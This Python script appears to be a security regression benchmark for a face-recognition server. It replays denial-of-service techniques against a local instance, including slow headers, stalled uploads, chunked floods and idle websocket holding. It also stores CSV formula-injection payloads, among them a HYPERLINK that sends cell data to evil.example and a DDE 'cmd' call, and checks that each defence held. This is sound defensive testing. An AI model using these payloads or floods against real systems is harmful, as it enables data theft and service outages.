"""Replays the attacks of issue 28 against a real server and prints held / failed per case.

Starts ``facemetric serve`` on 127.0.0.1 in a subprocess (a random-weight tiny checkpoint:
limits, not accuracy; the viewer token required; small limits so each case is quick; four
server-side cameras whose sources carry credentials in the vendors' forms and one MJPEG clip
over the pixel budget), then runs each case with real sockets, bounded in time, and prints one
line per case and the totals. The server's RSS is sampled every 10 ms: idle (after a warm-up)
against the peak over the whole replay (goal: within 150 MiB).

Run it on any checkout (``PYTHONPATH=path/to/src``): the same cases and settings, so a baseline
and a fix compare line by line. Cases for PostgreSQL outages and a full disk need a database
server and a small file system: they are in the tests (test_postgres_outage.py,
test_disk_full.py), not here.

    PYTHONPATH=src .venv/bin/python benchmarks/attack_replay.py
"""

from __future__ import annotations

import asyncio
import contextlib
import csv
import io
import json
import os
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable
from pathlib import Path

import httpx
import numpy as np
from PIL import Image

ADMIN = "replay-admin"
VIEWER = "replay-viewer"
SECRET = "tlJwpbo6"
MAX_CONNECTIONS = 20
MAX_IDLE = 20
ENV = {
    "FACEMETRIC_MAX_CONNECTIONS": str(MAX_CONNECTIONS),
    "FACEMETRIC_MAX_IDLE_CONNECTIONS": str(MAX_IDLE),
    "FACEMETRIC_MAX_UPLOAD_BYTES": str(1 << 20),
    "FACEMETRIC_BODY_TIMEOUT": "30",
    "FACEMETRIC_STREAM_IDLE_TIMEOUT": "3",
    "FACEMETRIC_VIEWER_TOKEN": VIEWER,
    "FACEMETRIC_VIEWER_TOKEN_REQUIRED": "always",
    "FACEMETRIC_KEEP_UNKNOWN": "true",
    "FACEMETRIC_EVENTS_KEEP_DAYS": "0",
    "FACEMETRIC_MAX_DECODE_PIXELS": "1000000",  # the MJPEG clip's 1600x1200 frames are over
    "FACEMETRIC_CAMERA_FPS": "5",
    "FACEMETRIC_EVENTS_MAX_MB": "0.1",  # case 8: a stream flood against the size cap
}
CAMERAS = {
    "cgi": f"http://127.0.0.1:9/videostream.cgi?loginuse=admin&loginpas={SECRET}",
    "xm": f"rtsp://127.0.0.1:9/user=admin_password={SECRET}_channel=1_stream=0.sdp",
    "token": f"http://{SECRET}@127.0.0.1:9/mjpeg",
    "pw": f"rtsp://admin:{SECRET}@127.0.0.1:9/s",
}
VIEWER_AUTH = {"Authorization": f"Bearer {VIEWER}"}
ADMIN_AUTH = {"Authorization": f"Bearer {ADMIN}"}


# ---- the server ---------------------------------------------------------------------------------
def tiny_checkpoint(folder: Path) -> Path:
    import torch

    from facemetric.models import ModelSpec, build_model, save_checkpoint

    torch.manual_seed(0)
    path = folder / "tiny.pt"
    model = build_model(ModelSpec(backbone="tiny", embedding_dim=32, input_size=112)).eval()
    save_checkpoint(path, model, meta={"note": "untrained, for the attack replay"})
    return path


def big_mjpeg_clip(folder: Path) -> Path:
    path = folder / "big.avi"
    subprocess.run(
        ["ffmpeg", "-hide_banner", "-loglevel", "error", "-y", "-f", "lavfi", "-i",
         "testsrc=size=1600x1200:rate=5", "-t", "3", "-c:v", "mjpeg", str(path)],
        check=True,
    )  # fmt: skip
    return path


class Served:
    def __init__(self, folder: Path) -> None:
        with socket.socket() as s:
            s.bind(("127.0.0.1", 0))
            self.port = int(s.getsockname()[1])
        self.url = f"http://127.0.0.1:{self.port}"
        self.db = folder / "g.db"
        self.log = folder / "server.log"
        cameras = [*(f"{k}={v}" for k, v in CAMERAS.items()), f"big={big_mjpeg_clip(folder)}"]
        cmd = [str(Path(sys.executable).with_name("facemetric")), "serve", "--port", str(self.port),
               "--model", str(tiny_checkpoint(folder)), "--db", str(self.db),
               *(x for c in cameras for x in ("--camera", c))]  # fmt: skip
        env = {**os.environ, **ENV, "FACEMETRIC_HOME": str(folder), "FACEMETRIC_ADMIN_TOKEN": ADMIN}
        with open(self.log, "w") as out:
            self.process = subprocess.Popen(cmd, env=env, stdout=out, stderr=subprocess.STDOUT)
        deadline = time.monotonic() + 300
        while True:
            if self.process.poll() is not None:
                raise SystemExit(f"server exited: {self.log.read_text()[-2000:]}")
            with contextlib.suppress(httpx.HTTPError):
                if httpx.get(self.url + "/api/health", timeout=5).status_code == 200:
                    break
            if time.monotonic() > deadline:
                raise SystemExit("server did not start within 300 s")
            time.sleep(0.3)

    def stop(self) -> None:
        self.process.terminate()
        try:
            self.process.wait(20)
        except subprocess.TimeoutExpired:
            self.process.kill()
            self.process.wait()

    def rss_kb(self) -> int:
        for line in Path(f"/proc/{self.process.pid}/status").read_text().splitlines():
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
        return 0

    def connect(self) -> socket.socket:
        return socket.create_connection(("127.0.0.1", self.port), timeout=5)


class Sampler(threading.Thread):
    """The server's peak RSS, sampled every 10 ms."""

    def __init__(self, served: Served) -> None:
        super().__init__(daemon=True)
        self.served, self.peak, self.halt = served, 0, threading.Event()

    def run(self) -> None:
        while not self.halt.is_set():
            with contextlib.suppress(OSError):
                self.peak = max(self.peak, self.served.rss_kb())
            time.sleep(0.01)


# ---- helpers ------------------------------------------------------------------------------------
def keep_sending(sock: socket.socket, chunk: bytes, seconds: float, pause: float) -> tuple:
    """Send ``chunk`` every ``pause`` s for at most ``seconds``: (bytes sent, answer, closed,
    seconds until closed)."""
    sock.setblocking(False)
    sent, answer, closed, start = 0, b"", False, time.monotonic()
    while time.monotonic() - start < seconds and not closed:
        try:
            sent += sock.send(chunk)
        except BlockingIOError:
            pass
        except OSError:
            closed = True
        try:
            while data := sock.recv(65536):
                answer += data
            else:
                closed = True
        except BlockingIOError:
            pass
        except OSError:
            closed = True
        time.sleep(pause)
    return sent, answer, closed, time.monotonic() - start


def get(served: Served, path: str, **kw: object) -> httpx.Response:
    return httpx.get(served.url + path, timeout=10, **kw)  # type: ignore[arg-type]


def photo() -> bytes:
    from skimage import data

    buf = io.BytesIO()
    Image.fromarray(data.astronaut()).save(buf, "JPEG", quality=90)
    return buf.getvalue()


Result = tuple[bool, str]


# ---- 1-2: connections that end ------------------------------------------------------------------
def chunked_413(served: Served) -> Result:
    head = (b"POST /api/identify HTTP/1.1\r\nHost: 127.0.0.1\r\nTransfer-Encoding: chunked\r\n"
            b"Content-Type: multipart/form-data; boundary=b\r\n\r\n")  # fmt: skip
    part = b'--b\r\nContent-Disposition: form-data; name="file"; filename="a"\r\n\r\n'
    with served.connect() as sock:
        sock.sendall(head + b"%x\r\n%s\r\n" % (len(part), part))
        sent, answer, closed, took = keep_sending(
            sock, b"%x\r\n%s\r\n" % (65536, b"\0" * 65536), 10.0, 0.0005
        )
    return closed and answer.startswith(b"HTTP/1.1 413"), (
        f"{answer[:12].decode(errors='replace')!r}, {sent / 2**20:,.0f} MiB taken, "
        + (f"closed after {took:.1f} s" if closed else "still reading at 10 s")
    )


def trickle_after_400(served: Served) -> Result:
    head = (b"POST /api/identify HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 50000\r\n"
            b"Content-Type: multipart/form-data; boundary=b\r\n\r\n")  # fmt: skip
    with served.connect() as sock:
        sock.sendall(head)
        _, answer, closed, took = keep_sending(sock, b"x", 10.0, 0.2)
    return closed and took < 6, (
        f"{answer[:12].decode(errors='replace')!r}, "
        + (f"closed after {took:.1f} s" if closed else "still reading at 10 s")
    )


def slow_heads(served: Served) -> Result:
    socks = []
    try:
        for _ in range(4 * MAX_IDLE):  # over uvicorn's old backstop (2 x max_connections + 16)
            s = served.connect()
            s.sendall(b"GET /api/people HTTP/1.1\r\nHost: 127.0.0.1\r\n")
            socks.append(s)
        time.sleep(0.5)
        codes = [
            get(served, p, headers=VIEWER_AUTH).status_code for p in ("/api/health", "/api/people")
        ]
    finally:
        for s in socks:
            s.close()
    return codes == [200, 200], f"{len(socks)} slow heads: health, people -> {codes}"


def slow_uploads(served: Served) -> Result:
    head = (b"POST /api/identify HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 50000\r\n"
            b"Content-Type: multipart/form-data; boundary=b\r\n\r\n--b")  # fmt: skip
    socks = [served.connect() for _ in range(MAX_CONNECTIONS + 5)]
    try:
        for s in socks:
            s.sendall(head)
        time.sleep(3.0)
        codes = [get(served, "/api/people", headers=VIEWER_AUTH).status_code for _ in range(3)]
        health = get(served, "/api/health").status_code
    finally:
        for s in socks:
            s.close()
    return set(codes) == {200} and health == 200, (
        f"{len(socks)} uploads sending nothing for 3 s: people {codes}, health {health}"
    )


def text_keeps_stream(served: Served) -> Result:
    import websockets

    async def run() -> tuple[bool, float]:
        start = time.monotonic()
        url = served.url.replace("http://", "ws://") + "/ws/stream"
        async with websockets.connect(url) as ws:
            await ws.recv()
            try:
                while time.monotonic() - start < 10:
                    await ws.send("ping")
                    await asyncio.wait_for(ws.recv(), 5)
                    await asyncio.sleep(0.5)
            except websockets.ConnectionClosed:
                return True, time.monotonic() - start
        return False, time.monotonic() - start

    closed, took = asyncio.run(run())
    return closed and took < 6, (
        "text every 0.5 s, stream_idle_timeout 3 s: "
        + (f"closed after {took:.1f} s" if closed else "still open at 10 s")
    )


def idle_streams_hold_slots(served: Served) -> Result:
    import websockets

    async def run() -> list[int]:
        url = served.url.replace("http://", "ws://") + "/ws/stream"
        holders = []
        try:
            for _ in range(MAX_CONNECTIONS):
                ws = await websockets.connect(url)
                await ws.recv()
                holders.append(ws)

            async def keep(ws: object) -> None:  # text only: nothing useful
                with contextlib.suppress(Exception):
                    for _ in range(30):
                        await ws.send("ping")  # type: ignore[attr-defined]
                        await asyncio.sleep(0.5)

            tasks = [asyncio.ensure_future(keep(ws)) for ws in holders]
            await asyncio.sleep(11)
            async with httpx.AsyncClient() as client:
                codes = [
                    (
                        await client.get(
                            served.url + "/api/people", headers=VIEWER_AUTH, timeout=10
                        )
                    ).status_code
                    for _ in range(3)
                ]
            for t in tasks:
                t.cancel()
            return codes
        finally:
            for ws in holders:
                with contextlib.suppress(Exception):
                    await ws.close()

    codes = asyncio.run(run())
    return set(codes) == {200}, f"{MAX_CONNECTIONS} streams sending text for 11 s: people {codes}"


# ---- 3: CSV -------------------------------------------------------------------------------------
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd",
    "@SUM(1+1)",
]


def _store_formula_events(served: Served) -> None:
    from facemetric.events.history import EventStore
    from facemetric.events.model import Event
    from facemetric.gallery.store import GalleryStore

    store = GalleryStore(served.db)
    history = EventStore(store)
    rng = np.random.default_rng(0)
    for i, name in enumerate(FORMULAS):
        chip = rng.integers(0, 255, (24, 24, 3), dtype=np.uint8)
        t = 1.76e9 + i
        history.save(
            Event(camera="door", person=name, first_seen=t, last_seen=t + 1, similarity=0.9,
                  track_id=i, closed=True, chip=chip)
        )  # fmt: skip
    store.close()


def _formula_cells(text: str) -> int:
    rows = list(csv.reader(io.StringIO(text)))
    return sum(cell.startswith(("=", "+", "-", "@")) for row in rows[1:] for cell in row)


def csv_http(served: Served) -> Result:
    _store_formula_events(served)
    r = get(served, "/api/events.csv", headers=VIEWER_AUTH)
    bad = _formula_cells(r.text)
    return r.status_code == 200 and bad == 0, f"/api/events.csv: {bad} formula cells"


def csv_cli(served: Served) -> Result:
    cmd = [
        str(Path(sys.executable).with_name("facemetric")),
        "events",
        "--db",
        str(served.db),
        "--csv",
    ]
    done = subprocess.run(cmd, capture_output=True, text=True, timeout=120)
    bad = _formula_cells(done.stdout)
    return done.returncode == 0 and bad == 0, f"facemetric events --csv: {bad} formula cells"


# ---- 4: the viewer token ------------------------------------------------------------------------
def unguarded(path: str) -> Callable[[Served], Result]:
    def case(served: Served) -> Result:
        code = get(served, path).status_code
        return code == 401, f"GET {path} without a token: {code}"

    return case


# ---- 5-6: cameras -------------------------------------------------------------------------------
def camera_api(served: Served) -> Result:
    text = get(served, "/api/cameras", headers=VIEWER_AUTH).text
    shown = [
        k
        for k in CAMERAS
        if SECRET in json.dumps([c for c in json.loads(text)["cameras"] if c["name"] == k])
    ]
    return not shown, f"/api/cameras shows the secret of: {shown or 'none'}"


def camera_log(served: Served) -> Result:
    lines = [x for x in served.log.read_text().splitlines() if "cameras:" in x]
    return bool(lines) and SECRET not in "".join(lines), (
        "start-up line " + ("shows the secret" if SECRET in "".join(lines) else "clean")
    )


def camera_pixels(served: Served) -> Result:
    deadline = time.monotonic() + 20
    big: dict = {}
    while time.monotonic() < deadline:
        cams = get(served, "/api/cameras", headers=VIEWER_AUTH).json()["cameras"]
        big = next(c for c in cams if c["name"] == "big")
        if big.get("frames_oversized") or big.get("frames_delivered", 0) >= 3:
            break
        time.sleep(0.5)
    over = big.get("frames_oversized") or 0
    return over > 0 and big.get("frames_delivered", 0) == 0, (
        f"1600x1200 MJPEG, budget 1 Mpx: {big.get('frames_delivered')} delivered, {over} skipped"
    )


# ---- 7: two writers, one gallery (two stores on the server's SQLite file) -----------------------
def concurrent_enrol(served: Served) -> Result:
    from facemetric.gallery.records import FaceRecord
    from facemetric.gallery.store import GalleryStore

    rng = np.random.default_rng(7)
    faces = [FaceRecord(rng.integers(0, 255, (112, 112, 3), dtype=np.uint8)) for _ in range(3)]
    vectors = np.eye(3, 32, dtype=np.float32)
    results: list[str] = []
    rounds = 5
    for r in range(rounds):
        stores = [GalleryStore(served.db), GalleryStore(served.db)]
        barrier = threading.Barrier(2)

        def enrol(store: GalleryStore, name: str = f"Race {r}", barrier=barrier) -> None:
            barrier.wait()
            try:
                results.append(str(len(store.add_faces(name, faces, "replay", vectors=vectors))))
            except Exception as exc:
                results.append(type(exc).__name__)

        threads = [threading.Thread(target=enrol, args=(s,)) for s in stores]
        for t in threads:
            t.start()
        for t in threads:
            t.join(30)
        counts = {p.name: p.face_count for p in stores[0].list_people()}
        results.append(f"={counts.get(f'Race {r}')}")
        for s in stores:
            s.close()
    stored = [x for x in results if x.startswith("=")]
    return stored == ["=3"] * rounds and all(
        x in ("0", "3") or x.startswith("=") for x in results
    ), (f"{rounds} races of 3 photos: faces stored {[s[1:] for s in stored]}")


# ---- 8: retention by trust -------------------------------------------------------------------
def stream_flood_retention(served: Served) -> Result:
    """Three events of a server-side camera, then 25 newer ones of anyone's streams
    (``?camera=flood0..24``) over the 0.1 MB cap; the admin prunes now."""
    from facemetric.events.history import EventStore
    from facemetric.events.model import Event
    from facemetric.gallery.store import GalleryStore

    store = GalleryStore(served.db)
    history = EventStore(store)
    rng = np.random.default_rng(8)

    def save(camera: str, t: float, track: int) -> None:
        buf = io.BytesIO()
        Image.fromarray(rng.integers(0, 255, (64, 96, 3), dtype=np.uint8)).save(buf, "JPEG")
        chip = rng.integers(0, 255, (24, 24, 3), dtype=np.uint8)
        history.save(
            Event(camera=camera, person=None, first_seen=t, last_seen=t + 1, similarity=0.1,
                  track_id=track, closed=True, chip=chip, snapshot=buf.getvalue())
        )  # fmt: skip

    for i in range(3):
        save("pw", 1.70e9 + i, 100 + i)  # "pw" is one of the server's own cameras
    for i in range(25):
        save(f"flood{i}", 1.77e9 + i, 200 + i)
    store.close()
    r = httpx.post(served.url + "/api/events/prune", headers=ADMIN_AUTH, timeout=30)
    page = get(served, "/api/events?camera=pw&limit=10", headers=VIEWER_AUTH).json()
    kept = len(page["events"])
    return r.status_code == 200 and kept == 3, (
        f"prune {r.status_code}: {r.json().get('events')} events deleted, "
        f"the camera's kept {kept} of 3"
    )


# ---- 11-13: numbers, names, tokens --------------------------------------------------------------
def big_id(method: str, path: str, body: object) -> Callable[[Served], Result]:
    def case(served: Served) -> Result:
        r = httpx.request(method, served.url + path, json=body, headers=ADMIN_AUTH, timeout=10)
        return (
            400 <= r.status_code < 500,
            f"{method} {path} {json.dumps(body) if body else ''}: {r.status_code}",
        )

    return case


def invalid_utf8_name(served: Served) -> Result:
    body = (b'--b\r\nContent-Disposition: form-data; name="name"\r\n\r\nA\xff\xfeB\r\n'
            b'--b\r\nContent-Disposition: form-data; name="files"; filename="a.jpg"\r\n'
            b"Content-Type: image/jpeg\r\n\r\n" + photo() + b"\r\n--b--\r\n")  # fmt: skip
    headers = {**ADMIN_AUTH, "Content-Type": "multipart/form-data; boundary=b"}
    r = httpx.post(served.url + "/api/people", content=body, headers=headers, timeout=60)
    return r.status_code in (400, 422), f"name A\\xff\\xfeB: {r.status_code} {r.text[:60]}"


def cyrillic_name(served: Served) -> Result:
    files = {"files": ("a.jpg", photo(), "image/jpeg")}
    first = httpx.post(served.url + "/api/people", data={"name": "Ann Lee"}, files=files,
                       headers=ADMIN_AUTH, timeout=60)  # fmt: skip
    second = httpx.post(served.url + "/api/people", data={"name": "\u0410nn Lee"}, files=files,
                        headers=ADMIN_AUTH, timeout=60)  # fmt: skip
    return first.status_code == 201 and second.status_code == 422, (
        f"'Ann Lee' {first.status_code}, Cyrillic 'Аnn Lee' {second.status_code}"
    )


def token_help(served: Served) -> Result:
    cmd = [str(Path(sys.executable).with_name("facemetric")), "serve", "--help"]
    text = subprocess.run(cmd, capture_output=True, text=True, timeout=60).stdout
    ok = "--admin-token-file" in text and "--viewer-token-file" in text
    return ok, "serve --help " + ("offers token files" if ok else "has no token file flags")


CASES: list[tuple[str, Callable[[Served], Result]]] = [
    ("1 chunked upload answered 413 is not read on", chunked_413),
    ("1 body trickled after a 400 is not read on", trickle_after_400),
    ("2 slow heads: health and API answered", slow_heads),
    ("2 slow uploads: their slots go to others", slow_uploads),
    ("2 text messages do not keep a stream", text_keeps_stream),
    ("2 streams sending only text give up slots", idle_streams_hold_slots),
    ("3 /api/events.csv has no formula", csv_http),
    ("3 events --csv has no formula", csv_cli),
    *((f"4 {p} needs the viewer token", unguarded(p)) for p in (
        "/api/unknown", "/api/unknown/1", "/api/unknown/faces/1/image", "/api/corrections",
        "/api/people", "/api/faces/1/image")),
    ("5 /api/cameras shows no credentials", camera_api),
    ("5 start-up line shows no credentials", camera_log),
    ("6 camera frames over the pixel budget skipped", camera_pixels),
    ("7 concurrent enrolments store each photo once", concurrent_enrol),
    ("8 a stream flood does not prune camera events", stream_flood_retention),
    *((f"11 {m} {p} with 2^64", big_id(m, p, b)) for m, p, b in (
        ("POST", "/api/unknown/1/merge", {"others": [2**64]}),
        ("POST", "/api/unknown/1/split", {"face_id": 2**64}),
        ("DELETE", f"/api/corrections/{2**64}", None),
        ("GET", f"/api/unknown?min_faces={2**64}", None),
        ("GET", f"/api/events?before=1.7e9_{2**64}", None))),
    ("12 invalid UTF-8 name refused", invalid_utf8_name),
    ("12 Cyrillic look-alike name refused", cyrillic_name),
    ("13 token files offered", token_help),
]  # fmt: skip


def main() -> int:
    with tempfile.TemporaryDirectory(prefix="facemetric-replay-") as tmp:
        served = Served(Path(tmp))
        try:
            for _ in range(3):  # warm up: one recognition, the pages' reads
                httpx.post(
                    served.url + "/api/identify",
                    files={"file": ("a.jpg", photo(), "image/jpeg")},
                    timeout=60,
                )
                get(served, "/api/people", headers=VIEWER_AUTH)
            time.sleep(2.0)
            idle = served.rss_kb()
            sampler = Sampler(served)
            sampler.start()
            held = failed = 0
            for label, case in CASES:
                try:
                    ok, note = case(served)
                except Exception as exc:  # a case that breaks is a failure, with its reason
                    ok, note = False, f"{type(exc).__name__}: {str(exc)[:120]}"
                held, failed = held + ok, failed + (not ok)
                print(f"{'held  ' if ok else 'FAILED'} {label}: {note}", flush=True)
            sampler.halt.set()
            sampler.join()
            alive = served.process.poll() is None
        finally:
            served.stop()
    peak = sampler.peak
    print(f"\n{held} held, {failed} failed of {held + failed} cases; server alive: {alive}")
    print(f"RSS idle {idle / 1024:,.0f} MiB, peak over the replay {peak / 1024:,.0f} MiB "
          f"(+{(peak - idle) / 1024:,.0f} MiB; goal within 150)")  # fmt: skip
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
